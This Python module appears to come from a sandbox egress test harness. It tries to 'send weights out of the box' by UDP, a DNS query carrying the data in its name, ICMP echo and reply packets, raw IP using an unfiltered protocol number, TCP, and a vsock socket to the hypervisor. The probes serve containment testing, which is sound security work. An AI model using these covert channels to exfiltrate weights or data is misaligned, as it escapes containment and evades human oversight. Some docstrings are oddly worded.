"""Attempts to send weights out of the box, by IPv4 and by IPv6."""

from __future__ import annotations

import os
import socket
import struct
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from intruder.calls import HOST, HOST_V6, NAME_SERVER, NAME_SERVER_V6

SERVICE_PORT = "PLANTED_SERVICE_PORT"
"""Variable in which the observer says the licence service's, where not every place may read of it."""
NO_SERVICE_PORT = "443"
"""Of an engine, which has no socket for any."""
TIMEOUT_S = 60
RETRIES = 2
"""Of the first packet of a connection: the kernel gives up after 1 + 2 + 4 s (tcp(7), RFC 6298). What the packet filter
refuses as a socket sends it is not told to the socket at once."""
ANY_PROTOCOL = 255
"""IPPROTO_RAW: the sender writes the IP header (raw(7))."""
NO_PROTOCOL = 253
"""For experiments (RFC 3692): nobody has a rule for it."""
VSOCK_HOST = 2
"""VMADDR_CID_HOST: the hypervisor (vsock(7))."""


@dataclass(frozen=True, slots=True)
class Internet:
    """One of the two, and who is there behind QEMU's user network.

    Attributes:
        icmp: Its protocol of echoes.
        request: An echo request, with room for weights: its head up to the checksum, and the checksum.
        reply: Likewise an answer to an echo that nobody has asked for. By IPv6 the kernel fills in checksums.
    """

    family: int
    host: str
    name_server: str
    icmp: int
    request: tuple[int, int]
    reply: tuple[int, int]


V4 = Internet(socket.AF_INET, HOST, NAME_SERVER, socket.IPPROTO_ICMP, (8, 0xF7FF), (0, 0xFFFF))
V6 = Internet(socket.AF_INET6, HOST_V6, NAME_SERVER_V6, socket.IPPROTO_ICMPV6, (128, 0), (129, 0))


def datagram(net: Internet) -> str:
    """A way to the host of QEMU's user network."""
    with socket.socket(net.family, socket.SOCK_DGRAM) as client:
        client.connect((net.host, 9))
        return str(client.getsockname())


def sent_datagram(net: Internet) -> str:
    with socket.socket(net.family, socket.SOCK_DGRAM) as client:
        return f"{client.sendto(b'weights', (net.host, 9))} bytes"


def looked_up(net: Internet) -> str:
    """Ask a name server for a name that holds weights (RFC 1035, 4.1)."""
    labels = b"".join(bytes([len(label)]) + label for label in (b"weights", b"example")) + b"\0"
    question = struct.pack("!6H", 0x5EA1, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!2H", 1, 1)
    with socket.socket(net.family, socket.SOCK_DGRAM) as client:
        return f"{client.sendto(question, (net.name_server, 53))} bytes"


def sent_echo(net: Internet, kind: int, checksum: int) -> str:
    """ICMP, with room for weights."""
    with socket.socket(net.family, socket.SOCK_RAW, net.icmp) as client:
        return f"{client.sendto(struct.pack('!BBHHH', kind, 0, checksum, 0, 0), (net.host, 0))} bytes"


def sent_raw() -> str:
    """A packet of a protocol that nobody has a rule for, under a header of one's own (RFC 791, 3.1). The kernel fills
    in length, checksum and sender."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, NO_PROTOCOL, 0, bytes(4), socket.inet_aton(HOST))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, ANY_PROTOCOL) as client:
        return f"{client.sendto(header + b'weights', (HOST, 0))} bytes"


def sent_raw_v6() -> str:
    """The same; the kernel writes the header."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, NO_PROTOCOL) as client:
        return f"{client.sendto(b'weights', (HOST_V6, 0))} bytes"


def called_service(net: Internet) -> str:
    """Any host at the licence service's port."""
    return called_host(net, int(os.environ.get(SERVICE_PORT, NO_SERVICE_PORT)))


def called_host(net: Internet, port: int = 9) -> str:
    """Open a connection; that nobody listens there is an answer of the host, which so was reached."""
    with socket.socket(net.family, socket.SOCK_STREAM) as client:
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_SYNCNT, RETRIES)
        try:
            client.connect((net.host, port))
        except ConnectionRefusedError:
            return "refused by the host"
    return "connected"


def called_hypervisor() -> str:
    """A socket that goes past every network: to the hypervisor. That the machine has no such device is no defence."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as client:
        client.settimeout(TIMEOUT_S)
        try:
            client.connect((VSOCK_HOST, 9))
        except OSError as error:
            return f"a socket, {error.strerror or error}"
        return "connected"


def attempts() -> dict[str, Callable[[], str]]:
    return {
        "network": partial(datagram, V4),
        "network-v6": partial(datagram, V6),
        "send-datagram": partial(sent_datagram, V4),
        "send-datagram-v6": partial(sent_datagram, V6),
        "look-up": partial(looked_up, V4),
        "look-up-v6": partial(looked_up, V6),
        "send-echo": partial(sent_echo, V4, *V4.request),
        "send-echo-v6": partial(sent_echo, V6, *V6.request),
        "send-echo-reply": partial(sent_echo, V4, *V4.reply),
        "send-echo-reply-v6": partial(sent_echo, V6, *V6.reply),
        "send-raw": sent_raw,
        "send-raw-v6": sent_raw_v6,
        "call-host": partial(called_host, V4),
        "call-host-v6": partial(called_host, V6),
        "call-service": partial(called_service, V4),
        "call-service-v6": partial(called_service, V6),
        "vsock": called_hypervisor,
    }
